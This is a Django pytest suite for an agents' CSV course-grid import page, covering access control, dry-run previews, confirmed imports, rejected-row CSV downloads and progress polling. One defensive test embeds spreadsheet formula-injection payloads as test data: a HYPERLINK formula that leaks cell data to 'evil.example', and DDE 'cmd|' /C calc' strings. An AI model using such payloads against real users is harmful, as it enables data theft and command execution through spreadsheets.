"""The agents' upload page: who may use it, the dry-run preview, import for real, progress."""

import csv
import io

import pytest
from django.core.cache import cache
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from requests_app.imports import rows as course_grid
from requests_app.imports import services as import_services
from requests_app.models import CourseGridImport, ServiceRequest
from requests_app.tasks import course_grid_import_run
from tests.helpers import text

from .conftest import HEADER, grid, row

pytestmark = pytest.mark.usefixtures("faculty", "media", "english")

UPLOAD = reverse("imports:upload")


def upload(client, data: bytes, *, dry_run=True, skip_invalid=False, name="grille.csv"):
    form = {"file": SimpleUploadedFile(name, data, content_type="text/csv")}
    if dry_run:
        form["dry_run"] = "on"
    if skip_invalid:
        form["skip_invalid"] = "on"
    return client.post(UPLOAD, form)


@pytest.fixture
def login(client):
    """Log in, the pages in English (the assertions read English text)."""

    def _login(user):
        user.language = "en"
        user.save(update_fields=["language"])
        client.force_login(user)
        return client

    return _login


def _job_of(user, data=None, **fields) -> CourseGridImport:
    fields.setdefault("original_name", "grille.csv")
    job = CourseGridImport(uploaded_by=user, **fields)
    job.file.save("grille.csv", ContentFile(data or grid([row()])), save=False)
    job.save()
    return job


# Who may ----------------------------------------------------------------------------------


def test_anonymous_visitor_is_sent_to_login(client):
    response = client.get(UPLOAD)

    assert response.status_code == 302
    assert "login" in response["Location"]


def test_citizen_is_refused(login, citizen):
    client = login(citizen)

    assert client.get(UPLOAD).status_code == 403
    assert upload(client, grid([row()])).status_code == 403
    assert ServiceRequest.objects.count() == 0


def test_manager_without_the_import_permission_is_refused(login, manager):
    assert login(manager).get(UPLOAD).status_code == 403


@pytest.mark.parametrize("persona", ["agent", "administrator"])
def test_agents_and_administrators_reach_the_upload_page(login, persona, request):
    response = login(request.getfixturevalue(persona)).get(UPLOAD)

    assert response.status_code == 200
    assert 'name="dry_run"' in text(response)
    assert "checked" in str(response.context["form"]["dry_run"])


@pytest.mark.parametrize(
    ("name", "method"),
    [("detail", "get"), ("progress", "get"), ("rejected", "get"), ("confirm", "post")],
)
def test_a_colleagues_upload_is_not_found(login, agent, colleague, name, method):
    job = _job_of(
        colleague,
        status=CourseGridImport.Status.DONE,
        dry_run=True,
        report={"rejected_rows": [{"line": 2, "reasons": ["x"], "cells": []}]},
    )
    client = login(agent)

    response = getattr(client, method)(reverse(f"imports:{name}", args=[job.pk]))

    assert response.status_code == 404
    assert CourseGridImport.objects.count() == 1


def test_the_upload_page_lists_only_my_own_uploads(login, agent, colleague):
    _job_of(agent, original_name="mine.csv")
    _job_of(colleague, original_name="theirs.csv")

    page = text(login(agent).get(UPLOAD))

    assert "mine.csv" in page
    assert "theirs.csv" not in page


# Preview and import --------------------------------------------------------------------------


def test_dry_run_upload_shows_the_counts_and_rejected_rows_and_writes_nothing(login, agent):
    # given
    client = login(agent)
    data = grid([row(), row(sigle="MMD2000", approche="HYBRIDE"), row(sigle="MMD3000")])

    # when
    response = upload(client, data)

    # then
    job = CourseGridImport.objects.get()
    assert response["Location"] == reverse("imports:detail", args=[job.pk])
    assert ServiceRequest.objects.count() == 0
    page = client.get(response["Location"])
    assert page.status_code == 200
    assert page.context["report"]["created"] == 2
    assert page.context["report"]["rejected"] == 1
    body = text(page)
    assert "Dry run: nothing was written." in body
    assert "<td>3</td>" in body
    assert "Unknown approach “HYBRIDE” (known: ASYNC, EQUIPNUM, SORTIES, SYNC, TRAVAUX)." in body
    assert "Run the import, skipping the rejected rows" in body


def test_import_for_real_runs_the_same_stored_file(login, agent):
    # given
    client = login(agent)
    upload(client, grid([row(), row(sigle="MMD2000")]))
    preview = CourseGridImport.objects.get()
    assert "Run the import" in text(client.get(reverse("imports:detail", args=[preview.pk])))

    # when
    response = client.post(reverse("imports:confirm", args=[preview.pk]), {"skip_invalid": "0"})

    # then
    job = CourseGridImport.objects.exclude(pk=preview.pk).get()
    assert response["Location"] == reverse("imports:detail", args=[job.pk])
    assert job.file.name == preview.file.name
    assert not job.dry_run
    assert job.status == CourseGridImport.Status.DONE
    assert ServiceRequest.objects.count() == 2
    assert set(ServiceRequest.objects.values_list("created_by", flat=True)) == {agent.pk}
    page = text(client.get(response["Location"]))
    assert "The import is done." in page


def test_import_for_real_after_a_preview_with_rejected_rows_skips_them(login, agent):
    client = login(agent)
    upload(client, grid([row(), row(sigle="MMD2000", date_debut="demain")]))
    preview = CourseGridImport.objects.get()

    client.post(reverse("imports:confirm", args=[preview.pk]), {"skip_invalid": "1"})

    assert list(ServiceRequest.objects.values_list("external_key", flat=True)) == [
        "MMD1234|A2026|SYNC"
    ]


def test_a_real_import_cannot_be_confirmed_again(login, agent):
    client = login(agent)
    upload(client, grid([row()]), dry_run=False)
    job = CourseGridImport.objects.get()

    response = client.post(reverse("imports:confirm", args=[job.pk]), follow=True)

    assert "Only a finished dry run can be imported." in text(response)
    assert CourseGridImport.objects.count() == 1


def test_real_upload_with_bad_rows_imports_nothing(login, agent):
    client = login(agent)

    response = upload(client, grid([row(), row(sigle="X", approche="HYBRIDE")]), dry_run=False)

    assert ServiceRequest.objects.count() == 0
    assert "nothing was imported" in text(client.get(response["Location"]))


def test_a_file_that_is_not_a_grid_is_refused_on_the_form(login, agent):
    response = upload(login(agent), grid([["x"] * 8], header=HEADER[:-2] + ["autre"]))

    assert response.status_code == 200
    assert "Line 1: missing column “date_debut”." in text(response)
    assert CourseGridImport.objects.count() == 0


def test_the_rejected_rows_download_as_csv(login, agent):
    client = login(agent)
    upload(client, grid([row(), row(sigle="MMD2000", date_debut="demain")]))
    job = CourseGridImport.objects.get()

    response = client.get(reverse("imports:rejected", args=[job.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="grille.rejected.csv"' in response["Content-Disposition"]
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    lines = list(csv.reader(io.StringIO(content[1:]), delimiter=";"))
    assert lines[0] == ["line", "reason", *HEADER]
    assert lines[1][0] == "3"
    assert lines[1][1].startswith("Bad date “demain”")
    assert lines[1][2] == "MMD2000"


def test_the_rejected_rows_download_escapes_cells_a_spreadsheet_would_run(login, agent):
    # given
    client = login(agent)
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
    upload(
        client,
        grid(
            [
                row(titre=attack, date_debut="demain"),
                row(sigle="MMD2000", titre="+cmd|' /C calc'!A0", presentateurs="@SUM(1+1)*cmd|x"),
                row(sigle="MMD3000", titre="-2+3+cmd|' /C calc'!A0", approche="HYBRIDE"),
            ],
            delimiter=",",
        ),
    )
    job = CourseGridImport.objects.get()

    # when
    response = client.get(reverse("imports:rejected", args=[job.pk]))

    # then
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [row for row in csv.reader(io.StringIO(content), delimiter=",")][1:]
    titles = [r[2 + HEADER.index("titre")] for r in cells]
    assert "'" + attack in titles
    assert "'-2+3+cmd|' /C calc'!A0" in titles
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in cells for cell in r)


# Large files ------------------------------------------------------------------------------


def test_a_large_file_goes_to_the_worker_and_its_page_polls_progress(
    login, agent, monkeypatch, django_capture_on_commit_callbacks
):
    # given
    monkeypatch.setattr(import_services, "INLINE_MAX_ROWS", 3)
    queued = []
    monkeypatch.setattr(course_grid_import_run, "delay", queued.append)
    client = login(agent)

    # when
    with django_capture_on_commit_callbacks(execute=True):
        response = upload(client, grid([row(sigle=f"MMD{i:04d}") for i in range(3)]))

    # then
    job = CourseGridImport.objects.get()
    assert queued == [job.pk]
    assert job.status == CourseGridImport.Status.QUEUED
    assert job.total_rows == 3
    page = text(client.get(response["Location"]))
    progress_url = reverse("imports:progress", args=[job.pk])
    assert f'hx-get="{progress_url}"' in page
    assert 'hx-trigger="every 2s"' in page
    assert 'role="progressbar"' in page


def test_progress_shows_rows_processed_while_running(login, agent):
    job = _job_of(agent, status=CourseGridImport.Status.RUNNING, total_rows=10)
    cache.set(course_grid.progress_cache_key(job.pk), 4)

    response = login(agent).get(reverse("imports:progress", args=[job.pk]), HTTP_HX_REQUEST="true")

    assert response.status_code == 200
    assert "4 of 10 rows processed" in text(response)
    assert 'aria-valuenow="40"' in text(response)


def test_progress_reloads_the_page_once_the_worker_is_done(login, agent):
    job = _job_of(agent, total_rows=1, dry_run=True)
    client = login(agent)
    url = reverse("imports:progress", args=[job.pk])
    assert client.get(url, HTTP_HX_REQUEST="true").status_code == 200

    course_grid_import_run(job.pk)
    response = client.get(url, HTTP_HX_REQUEST="true")

    assert response["HX-Refresh"] == "true"
    assert (
        text(client.get(reverse("imports:detail", args=[job.pk]))).count("requests to create") == 1
    )


def test_upload_nav_link_is_on_the_import_pages(login, agent):
    page = text(login(agent).get(UPLOAD))

    assert f'href="{UPLOAD}"' in page
